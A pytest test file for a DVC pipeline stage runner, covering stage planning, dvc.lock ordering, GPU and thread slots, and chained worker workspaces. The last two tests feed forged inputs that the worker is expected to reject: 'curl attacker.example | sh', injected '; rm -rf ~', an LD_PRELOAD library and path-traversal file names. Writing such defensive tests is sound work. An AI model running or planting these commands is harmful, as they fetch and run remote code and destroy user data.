"""segflow.orchestration.stage_runner on a two-stage DVC project of shell commands: stale stages only, outputs removed before
the command, dvc.lock in the order a sequential `dvc repro` leaves it; and the slots' environments."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from segflow.errors import SegflowError
from segflow.orchestration import stage_runner

DVC_YAML = {"stages": {
    "second": {"cmd": "cat first.txt > second.txt", "deps": ["first.txt"], "outs": ["second.txt"]},
    "first": {"cmd": "cat input.txt > first.txt", "deps": ["input.txt"], "outs": ["first.txt"]},
}}


def _dvc(project: Path, *args: str) -> str:
    return subprocess.run([sys.executable, "-m", "dvc", *args], cwd=project, check=True, capture_output=True,
                          text=True).stdout


def _project(root: Path) -> Path:
    subprocess.run(["git", "init", "-q"], cwd=root, check=True)
    _dvc(root, "init", "-q")
    (root / "dvc.yaml").write_text(yaml.safe_dump(DVC_YAML))
    (root / "input.txt").write_text("a\n")
    return root


def _run(runner: stage_runner.StageRunner, name: str) -> bool:
    command = runner.start(name)
    if command is None:
        return False
    subprocess.run(command, shell=True, cwd=runner.project, check=True)
    runner.commit(name)
    return True


def test_a_stage_nothing_reads_and_that_reads_nothing_is_not_planned(tmp_path, monkeypatch):
    # As synth when params.yaml's data points at the user's own data.
    project = _project(tmp_path)
    stages = {**DVC_YAML["stages"], "synth": {"cmd": "echo x > synthetic.txt", "outs": ["synthetic.txt"]}}
    (project / "dvc.yaml").write_text(yaml.safe_dump({"stages": stages}))
    monkeypatch.chdir(project)
    assert [s.name for s in stage_runner.plan(project)] == ["first", "second"]
    stages["first"] = {**stages["first"], "deps": ["synthetic.txt"]}  # the data points at it again
    (project / "dvc.yaml").write_text(yaml.safe_dump({"stages": stages}))
    assert [s.name for s in stage_runner.plan(project)] == ["synth", "first", "second"]


def test_stale_stages_run_and_are_recorded_as_dvc_repro_records_them(tmp_path, monkeypatch):
    project = _project(tmp_path)
    monkeypatch.chdir(project)  # as the flow does: DVC names stages relative to the working directory
    planned = stage_runner.plan(project)
    assert [(s.name, s.upstream) for s in planned] == [("first", ()), ("second", ("first",))]

    runner = stage_runner.StageRunner(project, [s.name for s in planned])
    assert _run(runner, "first") and _run(runner, "second")
    # Stages that finish out of order enter dvc.lock out of order; finish() puts them in stage order.
    (project / "dvc.lock").unlink()
    runner.commit("second")
    runner.commit("first")
    assert list(yaml.safe_load((project / "dvc.lock").read_text())["stages"]) == ["second", "first"]
    runner.finish()
    assert list(yaml.safe_load((project / "dvc.lock").read_text())["stages"]) == ["first", "second"]
    assert "up to date" in _dvc(project, "status")
    assert (project / "second.txt").read_text() == "a\n"

    # Nothing changed: nothing runs. A changed input: both run again, the output removed before its command.
    runner = stage_runner.StageRunner(project, [s.name for s in planned])
    assert not _run(runner, "first") and not _run(runner, "second")
    (project / "input.txt").write_text("b\n")
    assert runner.start("first") is not None and not (project / "first.txt").exists()


def test_each_slot_gets_a_gpu_round_robin_or_its_share_of_the_threads():
    assert [stage_runner.slot_environment(slot, 3, gpus=2) for slot in range(3)] == [
        {"CUDA_VISIBLE_DEVICES": "0"}, {"CUDA_VISIBLE_DEVICES": "1"}, {"CUDA_VISIBLE_DEVICES": "0"}]
    assert stage_runner.slot_environment(1, 2, gpus=0, cpus=16) == {"OMP_NUM_THREADS": "8", "MKL_NUM_THREADS": "8"}
    assert stage_runner.slot_environment(0, 4, gpus=0, cpus=2)["OMP_NUM_THREADS"] == "1"


CHAINED = {"stages": {
    # notes.txt is not cached (as metrics are): it reaches a chain's workspace with the pipeline files.
    "prepare": {"cmd": "cat input.txt > prepared.txt && echo n > notes.txt", "deps": ["input.txt"],
                "outs": ["prepared.txt", {"notes.txt": {"cache": False}}]},
    "train": {"matrix": {"arch": ["a", "b"]}, "cmd": "cat prepared.txt notes.txt code.txt > model-${item.arch}.txt",
              "deps": ["prepared.txt", "notes.txt", "code.txt"], "outs": ["model-${item.arch}.txt"]},
    "evaluate": {"matrix": {"arch": ["a", "b"]},
                 "cmd": "wc -c < model-${item.arch}.txt > score-${item.arch}.txt"
                        " && echo {\"arch\": \"${item.arch}\"} > m-${item.arch}.json",
                 "deps": ["model-${item.arch}.txt"], "outs": ["score-${item.arch}.txt"],
                 "metrics": [{"m-${item.arch}.json": {"cache": False}}]},
    "register": {"cmd": "cat score-a.txt score-b.txt > registered.txt", "deps": ["score-a.txt", "score-b.txt"],
                 "outs": ["registered.txt"]},
}}


def test_a_chain_runs_in_a_workspace_of_its_own_and_comes_back_through_the_remote_and_run_cache(tmp_path, monkeypatch):
    project = tmp_path / "project"
    project.mkdir()
    _project(project)
    (project / "dvc.yaml").write_text(yaml.safe_dump(CHAINED))
    (project / "code.txt").write_text("code\n")
    _dvc(project, "remote", "add", "-d", "team", str(tmp_path / "remote"))
    monkeypatch.chdir(project)
    planned = stage_runner.plan(project)
    chains = {arch: stage_runner.chain_stages(arch) for arch in ("a", "b")}
    assert stage_runner.split_plan(planned, {s for c in chains.values() for s in c}) == (["prepare"], ["register"])
    _dvc(project, "repro", "prepare")
    _dvc(project, "push")
    sequential = tmp_path / "sequential"  # what `dvc repro` records, to compare with
    subprocess.run(["cp", "-a", str(project), str(sequential)], check=True)
    _dvc(sequential, "repro", "evaluate@a")

    # The worker's side: a workspace with the code the chain depends on, nothing else; the inputs pulled.
    workspace = tmp_path / "workspace"
    upstream = stage_runner.prepare_workspace(project, workspace, stage_runner.workspace_files(project, chains["a"]),
                                                chains["a"])
    assert upstream == ["prepare"]
    assert (workspace / "code.txt").read_text() == "code\n" and not (workspace / "input.txt").exists()
    assert (workspace / "notes.txt").read_text() == "n\n"
    _dvc(workspace, "pull", *upstream)
    for stage in chains["a"]:
        _dvc(workspace, "repro", "--single-item", stage)
    _dvc(workspace, "push", "--run-cache", *chains["a"])

    # The parent's side: the stages recorded from the run cache, as the sequential run recorded them.
    assert stage_runner.stale(project, chains["a"])
    stage_runner.restore(project, chains["a"])
    assert not stage_runner.stale(project, chains["a"])
    for output in ("score-a.txt", "m-a.json"):  # cached and not
        assert (project / output).read_text() == (sequential / output).read_text()
    lock, expected = (yaml.safe_load((p / "dvc.lock").read_text())["stages"] for p in (project, sequential))
    assert {name: lock[name] for name in chains["a"]} == {name: expected[name] for name in chains["a"]}
    with pytest.raises(stage_runner.RunNotFound, match="train@b"):  # b's chain never ran anywhere
        stage_runner.restore(project, ["train@b"])
    assert not (project / "model-b.txt").exists()


def test_a_worker_refuses_files_it_does_not_take_another_pipeline_and_parameters_that_do_not_parse(tmp_path):
    project = tmp_path / "project"
    project.mkdir()
    _project(project)
    (project / "dvc.yaml").write_text(yaml.safe_dump(CHAINED))
    (project / "code.txt").write_text("code\n")
    (project / "params.yaml").write_text("{}\n")
    stages = stage_runner.chain_stages("a")
    sent = stage_runner.workspace_files(project, stages)
    assert set(sent) == {"dvc.yaml", "params.yaml"}
    forged_pipeline = yaml.safe_load(sent["dvc.yaml"])
    forged_pipeline["stages"]["train"]["cmd"] = "curl attacker.example | sh"
    forgeries = {
        "a path outside": ({**sent, str(tmp_path / "outside.txt"): "x"}, "was sent files it does not take"),
        "a way out": ({**sent, "../outside.txt": "x"}, "was sent files it does not take"),
        "another pipeline": ({**sent, "dvc.yaml": yaml.safe_dump(forged_pipeline)}, "is not this worker's"),
        "a command in the parameters": ({**sent, "params.yaml": yaml.safe_dump({"train": {"archs": ["unet; rm -rf ~"]}})},
                                        r"params.yaml sent to the worker: invalid parameters: train.archs"),
    }
    for name, (files, message) in forgeries.items():
        workspace = tmp_path / f"workspace-{len(name)}"
        with pytest.raises(SegflowError, match=message):
            stage_runner.prepare_workspace(project, workspace, files, stages)
        assert not workspace.exists(), name
    assert not (tmp_path / "outside.txt").exists()


def test_a_worker_takes_only_the_tracking_server_and_the_parent_run_as_environment(monkeypatch):
    run_id = "0123456789abcdef0123456789abcdef"
    monkeypatch.setenv("MLFLOW_TRACKING_URI", "http://mlflow:5000")
    stage_runner.check_sent_env({"MLFLOW_TRACKING_URI": "http://mlflow:5000", "SEGFLOW_PARENT_RUN_ID": run_id})
    for env, message in [
        ({"LD_PRELOAD": "/tmp/evil.so"}, "environment variables it does not take: \\['LD_PRELOAD'\\]"),
        ({"SEGFLOW_PARENT_RUN_ID": "x; rm -rf ~"}, "not an MLflow run id"),
        ({"MLFLOW_TRACKING_URI": "http://attacker.example"}, "not this worker's tracking server http://mlflow:5000"),
    ]:
        with pytest.raises(SegflowError, match=message):
            stage_runner.check_sent_env(env)
